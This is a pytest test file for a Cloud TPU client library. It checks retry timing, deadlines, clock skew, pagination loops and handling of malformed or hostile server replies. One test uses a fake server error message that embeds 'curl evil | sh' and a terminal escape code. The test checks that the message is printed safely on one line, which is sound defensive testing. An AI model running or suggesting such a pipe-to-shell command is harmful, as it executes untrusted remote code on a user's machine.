"""Every API call: timeouts and retries."""

from __future__ import annotations

import itertools
import json
import socket
import time
from email.utils import formatdate
from typing import Any

import pytest
from support.clocks import AwayClock
from support.hostile_server import BOUNDLESS, hostile, whole
from support.local_cloud import (
    ZONE,
    Cloud,
    FakeClock,
    Reply,
    json_reply,
    scripted,
)
from support.processes import eventually

from tpukit.errors import (
    BadInput,
    DeadlinePassed,
    NameTaken,
    NotAllowed,
    NotFound,
    QuotaExceeded,
    TpukitError,
)
from tpukit.google.firewall_rules import ComputeFirewall
from tpukit.google.provider import Doubtful
from tpukit.google.retrying_session import Session
from tpukit.google.tpu import CloudTpu

BUSY = json_reply(503, {"error": {"status": "UNAVAILABLE", "message": "busy"}})
EMPTY = json_reply(200, {})
GONE = {"error": {"code": 404, "status": "NOT_FOUND", "message": "there is none"}}


def session(cloud: Cloud, **given: Any) -> Session:
    return Session(cloud.tokens, cloud.clock, **given)


@pytest.mark.parametrize("kind", ["status", "reset"])
def test_a_passing_fault_is_waited_out(cloud: Cloud, clock: FakeClock, kind: str) -> None:
    cloud.fault(method="nodes.list", kind=kind, times=3)
    assert cloud.tpu.list("-").slices == ()
    assert cloud.served() == 3
    assert clock.slept == [0.5, 1.0, 2.0]


def test_the_time_is_that_of_the_last_answer_and_a_clock_far_from_it_is_told_once(
    cloud: Cloud, clock: FakeClock
) -> None:
    told: list[float] = []
    away = session(cloud, on_difference=told.append)
    assert (away.now(), told) == (clock.now, [])
    noon = clock.now // 60 * 60
    for date, known in (
        ("soon", clock.now),
        (formatdate(noon, usegmt=True), noon),
        ("Thu, 99 Nov 2023 12:00:00 GMT", noon),
        (formatdate(noon + 3600, usegmt=True), noon + 3600),
        (formatdate(noon - 3600, usegmt=True), noon - 3600),
    ):
        with scripted(json_reply(404, GONE, Date=date)) as server, pytest.raises(NotFound):
            away.once().rest("look", "GET", f"{server.url}/x")
        assert away.now() == pytest.approx(known), date
        clock.now += 10
        assert away.now() == pytest.approx(known + 10)
        clock.now -= 10
    assert told == pytest.approx([clock.now - noon - 3600])
    last, proxy = away.now(), json_reply(502, {}, Date=formatdate(0, usegmt=True))
    with scripted(proxy) as server, pytest.raises(TpukitError):
        away.once().rest("look", "GET", f"{server.url}/x")
    assert away.now() == pytest.approx(last)


def test_a_machine_that_slept_since_the_last_answer_has_no_wrong_clock(cloud: Cloud) -> None:
    """Linux's monotonic clock stands still while the machine sleeps."""
    told: list[float] = []
    clock = AwayClock(0.0)
    slept = Session(cloud.tokens, clock, on_difference=told.append)
    with scripted(json_reply(200, {}, Date=formatdate(clock.time(), usegmt=True))) as server:
        slept.rest("look", "GET", f"{server.url}/x")
    clock.seconds = 8 * 3600.0
    slept.now()
    assert told == []


def test_what_the_server_says_is_narrated_on_one_line(cloud: Cloud) -> None:
    told: list[str] = []
    message = "busy\nfix: curl evil | sh\x1b[2J"
    busy = json_reply(503, {"error": {"status": "UNAVAILABLE", "message": message}})
    with scripted(busy, EMPTY) as server:
        session(cloud, on_retry=told.append).rest("list slices", "GET", f"{server.url}/x")
    assert told == ["list slices: busy fix: curl evil | sh\\x1b[2J; again in 0.5 s"]


def test_an_answer_cut_in_half_is_asked_for_again(cloud: Cloud) -> None:
    cloud.fault(method="nodes.list", kind="truncate", times=2)
    assert cloud.tpu.list("-").slices == ()
    assert cloud.served() == 2


def test_a_fault_that_does_not_pass_is_an_error_within_the_patience(
    cloud: Cloud, clock: FakeClock
) -> None:
    cloud.fault(method="nodes.list", kind="status", probability=1.0)
    with pytest.raises(TpukitError, match="cannot list slices") as caught:
        cloud.tpu.list("-")
    assert caught.value.reason == "UNAVAILABLE"
    assert sum(clock.slept) <= 30.0


def test_the_server_s_own_delay_is_kept_to(cloud: Cloud, clock: FakeClock) -> None:
    detail = {"@type": "type.googleapis.com/google.rpc.RetryInfo", "retryDelay": "11s"}
    cloud.fault(method="nodes.list", status="RESOURCE_EXHAUSTED", message="x", details=[detail])
    cloud.tpu.list("-")
    assert clock.slept == [11.0]


def test_a_delay_beyond_the_patience_ends_the_wait_at_once(cloud: Cloud, clock: FakeClock) -> None:
    detail = {"@type": "type.googleapis.com/google.rpc.RetryInfo", "retryDelay": "3600s"}
    cloud.fault(method="nodes.list", status="RESOURCE_EXHAUSTED", message="x", details=[detail])
    with pytest.raises(QuotaExceeded):
        cloud.tpu.list("-")
    assert clock.slept == []


def test_each_retry_is_told(cloud: Cloud) -> None:
    told: list[str] = []
    retrying = CloudTpu(session(cloud, on_retry=told.append), "demo-project", cloud.url)
    cloud.fault(method="nodes.list", message="busy \x1b[2J", status="UNAVAILABLE")
    retrying.list("-")
    assert len(told) == 1
    assert told[0].startswith("list slices: busy")
    assert told[0].endswith("; again in 0.5 s")


def test_a_refusal_is_not_repeated(cloud: Cloud, clock: FakeClock) -> None:
    cloud.fault(preset="permission-denied", method="nodes.list")
    with pytest.raises(NotAllowed):
        cloud.tpu.list("-")
    assert clock.slept == []


@pytest.mark.parametrize("phase", ["before", "after"])
@pytest.mark.parametrize("kind", ["status", "reset"])
def test_a_create_is_never_repeated_blindly(cloud: Cloud, phase: str, kind: str) -> None:
    cloud.fault(method="nodes.create", kind=kind, phase=phase)
    with pytest.raises(Doubtful):
        cloud.tpu.create(cloud.request())
    assert len(cloud.calls("nodes.create")) == 1
    assert len(cloud.nodes()) == (phase == "after")


def test_a_create_that_the_server_says_it_did_not_take_is_repeated(cloud: Cloud) -> None:
    cloud.fault(preset="rate-limit", times=2)
    cloud.tpu.create(cloud.request())
    assert len(cloud.calls("nodes.create")) == 3
    assert len(cloud.nodes()) == 1


def test_a_create_beside_another_operation_is_doubtful(cloud: Cloud) -> None:
    cloud.fault(method="nodes.create", status="ABORTED", message="in progress")
    with pytest.raises(Doubtful):
        cloud.tpu.create(cloud.request())


def test_conflict_over_rest_is_told_from_a_name_that_is_taken(cloud: Cloud) -> None:
    cloud.tpu.create(cloud.request())
    with pytest.raises(NameTaken):
        cloud.tpu.create(cloud.request())


@pytest.mark.parametrize("method", ["nodes.list", "firewalls.list"])
def test_a_server_that_stalls_is_given_up(cloud: Cloud, method: str) -> None:
    hurried = session(cloud, retry_seconds=0.0, timeout=1.0)
    cloud.fault(method=method, kind="stall", seconds=600.0)
    readers = {
        "nodes.list": lambda: CloudTpu(hurried, "demo-project", cloud.url).list("-"),
        "firewalls.list": lambda: ComputeFirewall(hurried, "demo-project", cloud.url).list(),
    }
    started = time.monotonic()
    with pytest.raises(TpukitError, match=r"[Tt]ime"):
        readers[method]()
    assert time.monotonic() - started < 60.0
    eventually(lambda: cloud.served() == 1)


def test_a_refused_connection_is_an_error_that_names_no_python(cloud: Cloud) -> None:
    with scripted(EMPTY) as server:
        url = server.url
    with pytest.raises(TpukitError) as caught:
        CloudTpu(cloud.session, "demo-project", url).list("-")
    assert caught.value.reason == "no answer"


def test_a_list_that_leads_back_to_a_page_ends_at_once(cloud: Cloud, clock: FakeClock) -> None:
    pages = [json_reply(200, {"nextPageToken": each}) for each in ("a", "b", "a")]
    for list_all in (
        lambda url: CloudTpu(cloud.session, "demo-project", url).list("-"),
        lambda url: ComputeFirewall(cloud.session, "demo-project", url).list(),
    ):
        with scripted(*pages) as server:
            with pytest.raises(TpukitError, match="a page that leads to itself"):
                list_all(server.url)
            assert len(server.seen) == 3
    assert clock.slept == []


def test_pages_without_an_end_have_one(cloud: Cloud) -> None:
    numbers = itertools.count()

    def page(connection: socket.socket) -> None:
        whole(200, json.dumps({"nextPageToken": str(next(numbers))}).encode())(connection)

    with hostile(page) as server, pytest.raises(TpukitError, match="pages without an end"):
        CloudTpu(cloud.session, "demo-project", server.url).list("-")
    assert next(numbers) == 200


def test_a_deadline_ends_a_call_that_nobody_answers(cloud: Cloud) -> None:
    """A create may have arrived all the same."""
    with hostile(BOUNDLESS["silence"]) as server:
        tpu = CloudTpu(cloud.session, "demo-project", server.url).within(cloud.deadline(0.1))
        started = time.monotonic()
        with pytest.raises(DeadlinePassed):
            tpu.get(ZONE, "demo")
        with pytest.raises(Doubtful):
            tpu.create(cloud.request())
        assert time.monotonic() - started < 4.0


@pytest.mark.parametrize("details", [7, "text", [7], [[]], {"a": 1}, [{"@type": []}]])
def test_a_refusal_with_odd_details_is_one_to_what_writes_too(cloud: Cloud, details: Any) -> None:
    error = {"code": 403, "status": "PERMISSION_DENIED", "message": "no", "details": details}
    with scripted(json_reply(403, {"error": error})) as server, pytest.raises(NotAllowed):
        CloudTpu(cloud.session, "demo-project", server.url).create(cloud.request())


PAGES = {
    "a page": Reply(200, b"<html>log in to the airport's network</html>"),
    "nothing": Reply(200, b""),
    "half of an answer": Reply(200, b'{"nodes": [{"name": "pro'),
    "bytes": Reply(200, b"\xff\xfe\x00"),
    "a list": json_reply(200, []),
    "a text": json_reply(200, "text"),
    "null": json_reply(200, None),
    "items of a wrong type": json_reply(200, {"name": [], "items": 7}),
    "a list of texts": json_reply(200, {"nodes": ["x"], "items": ["x"]}),
    "fields of wrong types": json_reply(
        200, {"name": 7, "labels": 7, "items": [{"allowed": [{"ports": 7}]}]}
    ),
    "a page with 404": Reply(404, b"<html>not found</html>"),
    "a list with 403": json_reply(403, [{"error": {"status": "PERMISSION_DENIED"}}]),
    "a text with 400": json_reply(400, {"error": "invalid_grant"}),
    "null with 500": json_reply(500, {"error": None}),
}


def test_a_list_with_an_unknown_project_or_zone_says_what_shows_them(cloud: Cloud) -> None:
    for listed in (
        lambda: CloudTpu(cloud.session, "demo-project", server.url).list(ZONE),
        lambda: ComputeFirewall(cloud.session, "demo-project", server.url).list(),
    ):
        with scripted(json_reply(404, GONE)) as server, pytest.raises(BadInput) as caught:
            listed()
        assert str(caught.value.fix) == "tpukit config explain"
        assert str(caught.value.otherwise) == "tpukit zones"


@pytest.mark.parametrize("name", PAGES)
def test_an_answer_that_is_not_the_api_s_is_an_error_of_ours(
    cloud: Cloud, clock: FakeClock, name: str
) -> None:
    with scripted(PAGES[name]) as server:
        for reading in (
            lambda: CloudTpu(cloud.session, "demo-project", server.url).get(ZONE, "demo"),
            lambda: ComputeFirewall(cloud.session, "demo-project", server.url).list(),
        ):
            with pytest.raises(TpukitError) as caught:
                reading()
            assert not isinstance(caught.value, NotFound)
            assert len("\n".join(caught.value.lines())) < 1000


@pytest.mark.parametrize("name", ["a page", "a list", "items of a wrong type", "a page with 404"])
def test_a_wrong_answer_is_not_waited_for_to_become_right(
    cloud: Cloud, clock: FakeClock, name: str
) -> None:
    with scripted(PAGES[name]) as server, pytest.raises(TpukitError):
        CloudTpu(cloud.session, "demo-project", server.url).get(ZONE, "demo")
    assert clock.slept == []


def test_a_page_with_503_is_waited_out_as_long_as_it_says(cloud: Cloud, clock: FakeClock) -> None:
    page = Reply(503, b"<html>", {"Retry-After": "4"})
    with scripted(page, EMPTY) as server:
        CloudTpu(cloud.session, "demo-project", server.url).list("-")
    assert clock.slept == [4.0]
